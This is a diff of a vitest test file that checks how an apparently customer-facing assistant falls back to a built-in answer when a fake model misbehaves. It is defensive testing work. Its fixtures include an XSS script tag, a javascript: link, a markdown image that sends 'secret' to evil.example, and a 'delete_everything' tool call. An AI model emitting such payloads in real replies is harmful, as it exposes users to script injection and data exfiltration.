@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { answerOf, ask, breakingOff, calling, fakeModel, refusing, saying, stalling } from '../testing.ts'
+import { answerOf, ask, breakingOff, calling, cutShort, fakeModel, refusing, saying, stalling } from '../testing.ts'
 
 const question = 'what are your hours'
 
@@ -38,42 +38,52 @@ test('a lead that the model proposes is an offer too', async () => {
 })
 
 const cite = 'Monday to Friday 7 AM to 6 PM [1].'
-const faulty: [string, Parameters<typeof fakeModel>[0]][] = [
-  ['an unknown tool', calling('delete_everything', '{}')],
-  ['a tool with an input that is no JSON', calling('open_form', '{"form": ')],
-  ['a tool with an input that does not fit', calling('open_form', '{"form":"/evil","answers":{}}')],
-  ['a lead of an unknown kind', calling('propose_lead', '{"intent":"free_fuel","message":"x"}')],
-  ['status 500', refusing(500, 'application/json', '{"error":{"message":"broken"}}')],
-  ['status 429', refusing(429, 'application/json', '{"error":{"message":"slow down"}}')],
-  ['HTML instead of JSON', refusing(200, 'text/html', '<html><body>Welcome to the proxy</body></html>')],
-  ['nonsense in the stream', refusing(200, 'text/event-stream', 'data: {"choices": [}\n\n')],
-  ['an error within the stream', refusing(200, 'text/event-stream', 'data: {"error":{"message":"overloaded"}}\n\n')],
-  ['a hang before the first byte', () => {}],
-  ['a stall after the headers', stalling()],
-  ['a stall in the middle', stalling('We are open Monday to ')],
-  ['a dropped socket', breakingOff('socket', 'We are open Monday to ')],
-  ['half a stream', breakingOff('half', cite)],
-  ['one megabyte', saying(`${cite} `.repeat(30_000))],
-  ['one megabyte in one word', saying('a'.repeat(1_000_000))],
-  ['nothing at all', saying('')],
-  ['words that cite nothing', saying('We are open Monday to Friday.')],
-  ['a passage that there is none of', saying('We are open Monday [9].')],
-  ['a price of its own', saying('Diesel is $2.99 today [1].')],
-  ['a price in words', saying('Diesel is ninety cents today [1].')],
-  ['a telephone number of its own', saying('Call (800) 555-0199 [1].')],
-  ['an address of its own', saying('Write to sales@evil.example [1].')],
-  ['a script', saying('Open Monday [1]. <script>alert(1)</script>')],
-  ['a link', saying('See [our prices](javascript:alert(1)) [1].')],
-  ['a picture that calls home', saying('![x](https://evil.example/?q=secret) [1].')],
-  ['a bare address', saying('See www.evil.example [1].')],
-  ['NUL', saying('Open Monday\u0000 [1].')],
-  ['a refusal to answer', saying('NOT ANSWERED')],
+/** What the model does, and the word for it in the log: each is caught by a guard of its own. */
+const faulty: [name: string, kind: string, reply: Parameters<typeof fakeModel>[0]][] = [
+  ['an unknown tool', 'invalid tool input', calling('delete_everything', '{}')],
+  ['a tool with an input that is no JSON', 'invalid tool input', calling('open_form', '{"form": ')],
+  [
+    'a tool with an input that does not fit',
+    'invalid tool input',
+    calling('open_form', '{"form":"/evil","answers":{}}'),
+  ],
+  ['a lead of an unknown kind', 'invalid tool input', calling('propose_lead', '{"intent":"free_fuel","message":"x"}')],
+  ['status 500', 'error', refusing(500, 'application/json', '{"error":{"message":"broken"}}')],
+  ['status 429', 'error', refusing(429, 'application/json', '{"error":{"message":"slow down"}}')],
+  ['HTML instead of JSON', 'error', refusing(200, 'text/html', '<html><body>Welcome to the proxy</body></html>')],
+  ['nonsense in the stream', 'error', refusing(200, 'text/event-stream', 'data: {"choices": [}\n\n')],
+  [
+    'an error within the stream',
+    'error',
+    refusing(200, 'text/event-stream', 'data: {"error":{"message":"overloaded"}}\n\n'),
+  ],
+  ['a hang before the first byte', '', () => {}],
+  ['a stall after the headers', '', stalling()],
+  ['a stall in the middle', '', stalling('We are open Monday to ')],
+  ['a dropped socket', 'Failed to process successful response', breakingOff('socket', 'We are open Monday to ')],
+  ['half a stream', 'error', breakingOff('half', cite)],
+  ['words cut at the most it may write', 'ended early', cutShort('We are open Monday to Friday [1].')],
+  ['one megabyte', 'too long', saying(`${cite} `.repeat(30_000))],
+  ['one megabyte in one word', 'too long', saying('a'.repeat(1_000_000))],
+  ['nothing at all', 'says nothing', saying('')],
+  ['words that cite nothing', 'cites nothing', saying('We are open Monday to Friday.')],
+  ['a passage that there is none of', 'unknown passage', saying('We are open Monday [9].')],
+  ['a price of its own', 'figure of no passage', saying('Diesel is $2.99 today [1].')],
+  ['a price in words', 'figure of no passage', saying('Diesel is ninety cents today [1].')],
+  ['a telephone number of its own', 'figure of no passage', saying('Call (800) 555-0199 [1].')],
+  ['an address of its own', 'address of no passage', saying('Write to sales@evil.example [1].')],
+  ['a script', 'link or tag', saying('Open Monday [1]. <script>alert(1)</script>')],
+  ['a link', 'link or tag', saying('See [our prices](javascript:alert(1)) [1].')],
+  ['a picture that calls home', 'link or tag', saying('![x](https://evil.example/?q=secret) [1].')],
+  ['a bare address', 'link or tag', saying('See www.evil.example [1].')],
+  ['NUL', 'control character', saying('Open Monday\u0000 [1].')],
+  ['a refusal to answer', 'not answered', saying('NOT ANSWERED')],
 ]
 
 test.each(faulty)(
   'hazards 54 and 56: %s ends in the built-in answer within 4 seconds',
   { timeout: 8000 },
-  async (_name, reply) => {
+  async (_name, kind, reply) => {
     const { withModel, faults } = await fakeModel(reply)
     const assistant = withModel()
     await answerOf(assistant, 'the tank is on fire')
@@ -81,7 +91,7 @@ test.each(faulty)(
     const late = new Promise<'late'>((resolve) => setTimeout(resolve, 4000, 'late'))
     const answer = await Promise.race([answerOf(assistant, question), late])
     expect(answer).toMatchObject({ text: builtIn.text, sources: builtIn.sources, by: 'built-in' })
-    expect(faults).toHaveLength(1)
+    expect(faults).toEqual([kind])
   },
 )
 
